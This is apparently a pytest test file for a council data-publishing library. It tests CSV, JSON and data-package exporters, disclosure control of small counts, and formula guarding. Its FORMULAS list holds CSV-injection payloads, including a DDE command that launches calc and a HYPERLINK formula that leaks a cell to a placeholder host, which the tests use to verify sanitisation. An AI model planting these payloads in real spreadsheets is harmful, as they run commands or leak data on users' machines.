"""The data exporters: csv, results-json and datapackage, and the one CSV writer."""

from __future__ import annotations

import csv
import datetime
import decimal
import hashlib
import io
import json
import tempfile
from pathlib import Path
from typing import TYPE_CHECKING, Any

import attrs
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import socialcouncil
from socialcouncil import (
    Calibration,
    Council,
    ExportContext,
    Exporter,
    Figure,
    Project,
    PublishingSettings,
    Result,
    SourceRecord,
)
from socialcouncil.exporters.csv import CsvExporter, csv_text, guard_cell, result_rows
from socialcouncil.exporters.datapackage import PROFILE, DataPackageExporter
from socialcouncil.exporters.disclosure import disclose
from socialcouncil.exporters.results_json import INTERNAL_NOTICE, ResultsJsonExporter
from socialcouncil.testing import check_exporter, strategies

if TYPE_CHECKING:
    from collections.abc import Sequence

DATE = datetime.date(2026, 4, 1)

# Cells that spreadsheets run as formulas (OWASP's CSV injection list and payloads seen in
# the wild), and look-alikes that they do not.
FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://example.com/?leak="&A1, "Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "-2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=",
]
NOT_FORMULAS = ["Knowle", "1+1", " =1+1", "a=1", "'=1", "\uff1d1", "", "Smith's Wood"]


def people(value: float, n: int | None, **dimensions: str) -> Result:
    return Result(
        "survey", "respondents", value, dimensions, people=True, measure="wellbeing", n=n,
        kind="count", unit="people",
    )  # fmt: skip


def published(council: Council, results: Sequence[Result], **more: Any) -> ExportContext:
    return ExportContext(council, disclose(results, council.publishing), date=DATE, **more)


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


ANYTOWN = Council(name="Anytown Borough Council")
WARDS = [people(67, 67), people(30, 30, ward="Elmdon"), people(7, 7, ward="Knowle")]
WARDS += [people(30, 30, ward="Blythe")]


# -- the CSV writer ----------------------------------------------------------------------------


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_a_spreadsheet_would_run_gets_an_apostrophe(text: str) -> None:
    assert guard_cell(text) == "'" + text


@pytest.mark.parametrize("text", NOT_FORMULAS)
def test_other_text_is_left_as_it_is(text: str) -> None:
    assert guard_cell(text) == text


def test_numbers_are_not_guarded_and_text_always_is() -> None:
    text = csv_text(["a", "b", "c", "d", "e"], [[-0.5, -3, "-3", None, datetime.date(2025, 1, 2)]])
    assert text == "\ufeffa,b,c,d,e\r\n-0.5,-3,'-3,,2025-01-02\r\n"


def test_a_header_is_guarded_too_and_a_row_of_the_wrong_length_is_refused() -> None:
    assert csv_text(["=x"], [], bom=False, line_ending="\n") == "'=x\n"
    with pytest.raises(ValueError, match="a row has 1 cells for 2 columns"):
        csv_text(["a", "b"], [["only"]])


@given(st.lists(st.lists(st.text(max_size=10), min_size=2, max_size=2), max_size=5))
def test_what_the_writer_writes_reads_back_guarded(rows: list[list[str]]) -> None:
    back = list(csv.reader(io.StringIO(csv_text(["a", "b"], rows, bom=False), newline="")))
    assert back == [["a", "b"], *([guard_cell(c) for c in row] for row in rows)]


def test_the_measure_command_guards_its_csv_with_the_same_function() -> None:
    from socialcouncil import _measuring

    formula = Result("m", "=1+1", 2.0, {"ward": "@x"}, measure="count-of-things")
    text = _measuring.results_csv((formula,))
    assert text.splitlines()[1] == "count-of-things,m,'=1+1,2,,'@x"


# -- csv ---------------------------------------------------------------------------------------


def test_csv_has_one_row_per_figure_with_suppressed_cells_as_c(tmp_path: Path) -> None:
    destination = tmp_path / "results.csv"
    CsvExporter().export(published(ANYTOWN, WARDS), destination)
    data = destination.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfmeasure,model,indicator,value,n,ward\r\n")
    rows = read_csv(data.decode("utf-8"))
    assert [(r["ward"], r["value"], r["n"]) for r in rows] == [
        ("", "67", "67"),
        ("Elmdon", "30", "30"),
        ("Knowle", "[c]", "[c]"),
        ("Blythe", "[c]", "[c]"),
    ]


def test_csv_dimension_columns_are_sorted_and_never_clash_with_the_first_five() -> None:
    figures = [
        Figure("m", "x", "y", 1.0, 1, {"ward": "a", "period": "2025"}),
        Figure("m", "x", "y", 2.0, 2, {"model": "z"}),
    ]
    header, rows = result_rows(figures)
    assert header == ("measure", "model", "indicator", "value", "n", "by-model", "period", "ward")
    assert rows[1][5:] == ["z", None, None]


@pytest.mark.parametrize("text", FORMULAS)
def test_csv_guards_every_text_cell(tmp_path: Path, text: str) -> None:
    figure = Result(
        "observed", text, -4.5, {"ward": text}, people=False, measure="ties", n=None,
        kind="count",
    )  # fmt: skip
    destination = tmp_path / "results.csv"
    CsvExporter().export(published(ANYTOWN, [figure]), destination)
    (row,) = read_csv(destination.read_bytes().decode("utf-8"))
    assert row["indicator"] == row["ward"] == "'" + text
    assert row["value"] == "-4.5"


def test_csv_refuses_raw_figures_about_people(tmp_path: Path) -> None:
    raw = ExportContext(ANYTOWN, [Figure.of(r) for r in WARDS], published=False)
    with pytest.raises(ValueError, match="disclosure control"):
        CsvExporter().export(raw, tmp_path / "results.csv")
    assert list(tmp_path.iterdir()) == []


@given(st.lists(st.integers(0, 60), min_size=1, max_size=6))
def test_csv_holds_exactly_the_published_figures(counts: list[int]) -> None:
    results = [people(n, n, ward=f"w{i}") for i, n in enumerate(counts)]
    context = published(ANYTOWN, [people(sum(counts), sum(counts)), *results])
    with tempfile.TemporaryDirectory() as folder:
        destination = Path(folder) / "results.csv"
        CsvExporter().export(context, destination)
        rows = read_csv(destination.read_bytes().decode("utf-8"))
    assert len(rows) == len(context.figures)
    for row, figure in zip(rows, context.figures, strict=True):
        if figure.suppressed:
            assert (row["value"], row["n"]) == ("[c]", "[c]")
        else:
            assert float(row["value"]) == figure.value
            assert row["n"] == str(figure.n)


# -- results-json ------------------------------------------------------------------------------


def test_results_json_writes_the_raw_figures_and_says_so(tmp_path: Path) -> None:
    assert ResultsJsonExporter.publishes is False
    source = SourceRecord("survey", "csv", "data/survey.csv", "ab" * 32, rows=100, left_out=2)
    context = ExportContext(
        ANYTOWN,
        [Figure.of(r) for r in WARDS],
        published=False,
        sources=[source],
        left_out={"wellbeing": 2},
        date=DATE,
    )
    destination = tmp_path / "results.json"
    ResultsJsonExporter().export(context, destination)
    document = json.loads(destination.read_text(encoding="utf-8"))
    assert document["notice"] == INTERNAL_NOTICE
    assert "unsuppressed" in document["notice"]
    assert document["disclosure_control"] == "none"
    assert document["date"] == "2026-04-01"
    assert document["sources"][0]["fingerprint"] == "ab" * 32
    assert document["left_out"] == {"wellbeing": 2}
    knowle = document["results"][2]
    assert knowle == {
        "measure": "wellbeing",
        "model": "survey",
        "indicator": "respondents",
        "value": 7.0,
        "n": 7,
        "dimensions": {"ward": "Knowle"},
        "kind": "count",
        "unit": "people",
        "people": True,
    }


def test_results_json_given_disclosed_figures_does_not_claim_they_are_raw(
    tmp_path: Path,
) -> None:
    destination = tmp_path / "results.json"
    ResultsJsonExporter().export(published(ANYTOWN, WARDS), destination)
    document = json.loads(destination.read_text(encoding="utf-8"))
    assert document["disclosure_control"] == "applied"
    assert document["results"][2]["suppressed"] == "primary"
    assert document["results"][2]["value"] is None


# -- datapackage -------------------------------------------------------------------------------


def validate(folder: Path) -> Any:
    import frictionless

    report = frictionless.validate(str(folder / "datapackage.json"))
    assert report.valid, report.flatten(["resourceName", "rowNumber", "fieldName", "note"])
    return frictionless.Package(str(folder / "datapackage.json"))


def test_the_solihull_example_exports_a_valid_package_with_its_types(
    examples: Path, tmp_path: Path
) -> None:
    council = socialcouncil.load(examples / "solihull.toml")
    measurement = socialcouncil.measure(council, base=examples)
    context = published(council, measurement.results)
    destination = tmp_path / "solihull"
    DataPackageExporter().export(context, destination)
    package = validate(destination)
    descriptor = json.loads((destination / "datapackage.json").read_text(encoding="utf-8"))
    assert descriptor["$schema"] == PROFILE
    assert descriptor["name"] == "solihull-metropolitan-borough-council"
    assert descriptor["created"] == "2026-04-01T00:00:00Z"
    assert descriptor["licenses"] == [
        {
            "name": "OGL-UK-3.0",
            "path": "https://www.nationalarchives.gov.uk/doc/open-government-licence/version/3/",
            "title": "Open Government Licence v3.0",
        }
    ]
    assert descriptor["contributors"] == [{"title": council.name, "roles": ["publisher"]}]
    assert [r["name"] for r in descriptor["resources"]] == ["results", "projects", "calibrations"]

    results = package.get_resource("results").read_rows()
    assert len(results) == len(context.figures)
    for row, figure in zip(results, context.figures, strict=True):
        if figure.suppressed:
            assert row["value"] is None
        else:
            # Read as the declared number type: frictionless gives a Decimal, exact.
            assert isinstance(row["value"], (decimal.Decimal, int))
            assert float(row["value"]) == figure.value
        assert row["n"] == (None if figure.suppressed else figure.n)
        assert row["n"] is None or type(row["n"]) is int
    assert any(f.suppressed for f in context.figures)  # the example does suppress something
    projects = package.get_resource("projects").read_rows()
    assert [p["id"] for p in projects] == [p.id for p in council.projects]
    assert projects[0]["values"] == list(council.projects[0].values)
    calibrations = package.get_resource("calibrations").read_rows()
    assert len(calibrations) == sum(len(p.calibrations) for p in council.projects)
    assert all(type(c["date"]) is datetime.date for c in calibrations)
    # Exactly the CSV file the csv exporter writes, less its byte order mark.
    CsvExporter().export(context, tmp_path / "results.csv")
    assert (destination / "results.csv").read_bytes() == (tmp_path / "results.csv").read_bytes()[3:]


def test_a_package_says_how_big_each_file_is_and_its_hash(tmp_path: Path) -> None:
    import frictionless

    destination = tmp_path / "package"
    DataPackageExporter().export(published(ANYTOWN, WARDS), destination)
    descriptor = json.loads((destination / "datapackage.json").read_text(encoding="utf-8"))
    for resource in descriptor["resources"]:
        data = (destination / resource["path"]).read_bytes()
        assert resource["bytes"] == len(data)
        assert resource["hash"] == "sha256:" + hashlib.sha256(data).hexdigest()
    # A file changed after it was written no longer matches its package.
    with (destination / "results.csv").open("a", encoding="utf-8") as handle:
        handle.write("wellbeing,survey,respondents,1,1,Olton\r\n")
    assert not frictionless.validate(str(destination / "datapackage.json")).valid


def council_with(text: str) -> Council:
    return Council(
        name=f"Anytown {text}",
        steering_group=text,
        projects=[
            Project(
                id="cafe",
                title=text,
                summary=text,
                owner=text,
                continuum="iap2-spectrum",
                calibrations=[
                    Calibration(datetime.date(2025, 1, 1), "inform", assessor=text, evidence=text)
                ],
            )
        ],
    )


@pytest.mark.parametrize("text", FORMULAS)
def test_a_package_guards_every_text_cell_and_stays_valid(tmp_path: Path, text: str) -> None:
    result = Result("observed", "things", 3, {"ward": text}, measure="m", kind="count")
    DataPackageExporter().export(published(council_with(text), [result]), tmp_path / "p")
    package = validate(tmp_path / "p")
    (project,) = package.get_resource("projects").read_rows()
    assert project["title"] == project["summary"] == project["owner"] == "'" + text
    (calibration,) = package.get_resource("calibrations").read_rows()
    assert calibration["assessor"] == calibration["evidence"] == "'" + text
    (row,) = package.get_resource("results").read_rows()
    assert row["ward"] == "'" + text


def test_a_licence_of_the_councils_own_is_carried_with_its_title_and_address(
    tmp_path: Path,
) -> None:
    publishing = PublishingSettings(
        licence="LicenseRef-anytown",
        licence_title="Anytown Open Data Licence",
        licence_url="https://data.anytown.gov.uk/licence",
    )
    council = attrs.evolve(ANYTOWN, publishing=publishing)
    DataPackageExporter(name="anytown-open-data").export(published(council, []), tmp_path / "p")
    validate(tmp_path / "p")
    descriptor = json.loads((tmp_path / "p" / "datapackage.json").read_text(encoding="utf-8"))
    assert descriptor["name"] == "anytown-open-data"
    assert descriptor["licenses"] == [
        {
            "name": "LicenseRef-anytown",
            "path": "https://data.anytown.gov.uk/licence",
            "title": "Anytown Open Data Licence",
        }
    ]


def test_a_package_name_option_must_be_a_package_name() -> None:
    with pytest.raises(ValueError, match="lowercase letters"):
        DataPackageExporter(name="Anytown Data")
    with pytest.raises(TypeError, match="only the option name; found indent"):
        DataPackageExporter(indent="2")


def test_a_package_replaces_the_folder_there_only_once_it_is_whole(tmp_path: Path) -> None:
    destination = tmp_path / "package"
    destination.mkdir()
    (destination / "old.csv").write_text("old", encoding="utf-8")
    DataPackageExporter().export(published(ANYTOWN, WARDS), destination)
    assert sorted(p.name for p in destination.iterdir()) == [
        "calibrations.csv",
        "datapackage.json",
        "projects.csv",
        "results.csv",
    ]
    assert [p.name for p in tmp_path.iterdir()] == ["package"]


def test_a_package_refuses_raw_figures_and_writes_nothing(tmp_path: Path) -> None:
    raw = ExportContext(ANYTOWN, [Figure.of(r) for r in WARDS], published=False)
    with pytest.raises(ValueError, match="disclosure control"):
        DataPackageExporter().export(raw, tmp_path / "package")
    assert list(tmp_path.iterdir()) == []


@settings(max_examples=15)
@given(strategies.valid_councils())
def test_any_valid_council_exports_a_valid_package(council: Council) -> None:
    with tempfile.TemporaryDirectory() as folder:
        written = check_exporter(DataPackageExporter, Path(folder), council, WARDS)
        package = validate(written)
        projects = package.get_resource("projects").read_rows()
        assert len(projects) == len(council.projects)


# -- all three ---------------------------------------------------------------------------------


@pytest.mark.parametrize("cls", [CsvExporter, ResultsJsonExporter, DataPackageExporter])
def test_the_data_exporters_are_registered_and_follow_the_protocol(cls: type[Exporter]) -> None:
    assert socialcouncil.registry().exporters[cls.name] is cls
    assert isinstance(cls(), Exporter)
    assert cls.description.endswith(".")


@pytest.mark.parametrize("cls", [CsvExporter, ResultsJsonExporter, DataPackageExporter])
def test_the_data_exporters_pass_the_testing_kit(tmp_path: Path, cls: type[Exporter]) -> None:
    check_exporter(cls, tmp_path, ANYTOWN, WARDS)
